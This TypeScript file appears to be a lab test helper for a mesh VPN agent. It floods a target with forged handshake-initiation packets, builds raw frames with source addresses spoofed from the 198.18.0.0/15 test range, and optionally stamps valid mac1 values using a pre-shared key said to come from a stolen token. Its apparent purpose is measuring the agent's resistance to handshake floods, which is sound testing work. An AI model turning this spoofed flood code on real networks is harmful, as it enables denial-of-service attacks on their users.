/**
 * Far end of a helper process in the router's namespace: forged first messages of handshakes from ever new addresses, put
 * on the cable to the victim as whole frames. With the mesh's psk (a stolen token has it) their mac1 is right.
 */
import { randomFillSync } from 'node:crypto';
import { closeFd, interfaceMac, openPacketSocket, sendPacket } from 'tun-tap';
import { ipToBytes } from '../../agent/endpoint.ts';
import { sodiumReady } from '../../agent/identity/sodium.ts';
import { serveProbe } from '../../agent/lab/probe-server.ts';
import { MacKeys } from '../../agent/session/cookie.ts';
import { encodeHandshake, INIT_BYTES, initHeader } from '../../agent/session/messages.ts';

export interface Flood {
  readonly device: string;
  readonly victimMac: Uint8Array;
  readonly victim: string;
  readonly victimDhPk: Uint8Array;
  /** Null: mac1 is noise. */
  readonly psk: Uint8Array | null;
  readonly perSecond: number;
  readonly seconds: number;
}

const HEADERS = 14 + 20 + 8;
const MACS = 32;
/** Different messages, sent in turn, each time from another address. */
const MESSAGES = 2048;
const PORT = 7947;

function messages(flood: Flood): Buffer[] {
  const macs = flood.psk === null ? null : new MacKeys(flood.psk, flood.victimDhPk);
  return Array.from({ length: MESSAGES }, (_, i) => {
    const noise = randomFillSync(new Uint8Array(INIT_BYTES - 8 - MACS));
    const message = encodeHandshake(initHeader(i * 16), noise);
    if (macs === null) randomFillSync(message, INIT_BYTES - MACS);
    else macs.stamp(message, null);
    const frame = Buffer.alloc(HEADERS + INIT_BYTES);
    frame.set(flood.victimMac, 0);
    frame.set(interfaceMac(flood.device), 6);
    frame.writeUInt16BE(0x0800, 12);
    frame[14] = 0x45;
    frame.writeUInt16BE(20 + 8 + INIT_BYTES, 16);
    frame[22] = 64;
    frame[23] = 17;
    frame.set(ipToBytes(flood.victim).subarray(12), 30);
    frame.writeUInt16BE(PORT, 34);
    frame.writeUInt16BE(PORT, 36);
    // The checksum of UDP over IPv4 may be left out: zero.
    frame.writeUInt16BE(8 + INIT_BYTES, 38);
    frame.set(message, HEADERS);
    return frame;
  });
}

/** An address of 198.18.0.0/15, which is for measuring (RFC 2544), and the header checksum that goes with it. */
function comeFrom(frame: Buffer, number: number): void {
  frame.writeUInt32BE((0xc6120000 | (number & 0x1ffff)) >>> 0, 26);
  frame.writeUInt16BE(0, 24);
  let sum = 0;
  for (let at = 14; at < 34; at += 2) sum += frame.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  frame.writeUInt16BE(~sum & 0xffff, 24);
}

/** @returns how many the cable took */
async function flood(options: Flood): Promise<number> {
  await sodiumReady;
  const frames = messages(options);
  const fd = openPacketSocket(options.device);
  const startMs = performance.now();
  let sent = 0;
  for (let number = 0; ; ) {
    const elapsedMs = performance.now() - startMs;
    if (elapsedMs >= options.seconds * 1000) break;
    const due = Math.min(number + 500, Math.floor((elapsedMs * options.perSecond) / 1000));
    for (; number < due; number++) {
      const frame = frames[number % MESSAGES];
      if (frame === undefined) continue;
      comeFrom(frame, number);
      if (sendPacket(fd, frame) === 0) sent++;
    }
    await new Promise((resolve) => setImmediate(resolve));
  }
  closeFd(fd);
  return sent;
}

serveProbe({ flood });
